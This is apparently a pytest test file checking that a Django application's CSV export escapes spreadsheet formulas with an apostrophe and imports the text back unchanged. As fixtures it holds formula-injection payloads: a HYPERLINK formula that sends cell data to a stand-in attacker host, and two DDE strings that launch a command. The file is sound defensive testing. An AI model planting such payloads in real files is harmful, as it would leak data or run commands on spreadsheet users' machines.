"""The interchange export neutralises what a spreadsheet would run as a formula, and
the import gives back the original text (issue 13, point 11)."""

import csv

import pytest

from jalons.audit.actor import Actor
from jalons.echanges.export import folder_export
from jalons.echanges.services import folder_import
from jalons.rules import read_folder
from tests.echanges.factories import AccompanimentFactory, ParcoursFactory, PersonFactory
from tests.echanges.helpers import row_counts
from tests.factories import StructureFactory

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez ici")'
SPEAKER = "@SUM(1+9)*cmd|' /C calc'!A0"
PERSON_ID = "-2+3+cmd|' /C calc'!A0"


def _rows(folder, name):
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_user_text_is_written_with_an_apostrophe_and_read_back_exactly(tmp_path):
    structure = StructureFactory(name=NAME)
    person = PersonFactory(structure=structure, external_id=PERSON_ID)
    ParcoursFactory(person=person)
    AccompanimentFactory(person=person, speaker=SPEAKER)
    plain = PersonFactory(structure=structure, external_id="'apostrophe")
    ParcoursFactory(person=plain)

    folder_export(folder=tmp_path / "export")

    (written,) = _rows(tmp_path / "export", "structures")
    assert written["nom"] == "'" + NAME
    ids = {r["personne_id"] for r in _rows(tmp_path / "export", "parcours")}
    assert ids == {"'" + PERSON_ID, "''apostrophe"}
    (action,) = _rows(tmp_path / "export", "accompagnements")
    assert action["intervenant"] == "'" + SPEAKER
    # No cell of any file starts with a formula character.
    for path in (tmp_path / "export").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell[:1] in "=+-@\t\r" for cell in row if cell), (path.name, row)

    tables = read_folder(tmp_path / "export")
    assert tables.structures["nom"].to_list() == [NAME]
    assert sorted(tables.parcours["personne_id"].to_list()) == sorted([PERSON_ID, "'apostrophe"])
    assert tables.accompagnements["intervenant"].to_list() == [SPEAKER]

    # Importing the export into the same database changes nothing: same texts.
    before = row_counts()
    result = folder_import(actor=Actor.from_command("jalons importer"), folder=tmp_path / "export")
    assert result.total_written == 0
    assert row_counts() == before
    structure.refresh_from_db()
    person.refresh_from_db()
    assert structure.name == NAME and person.external_id == PERSON_ID
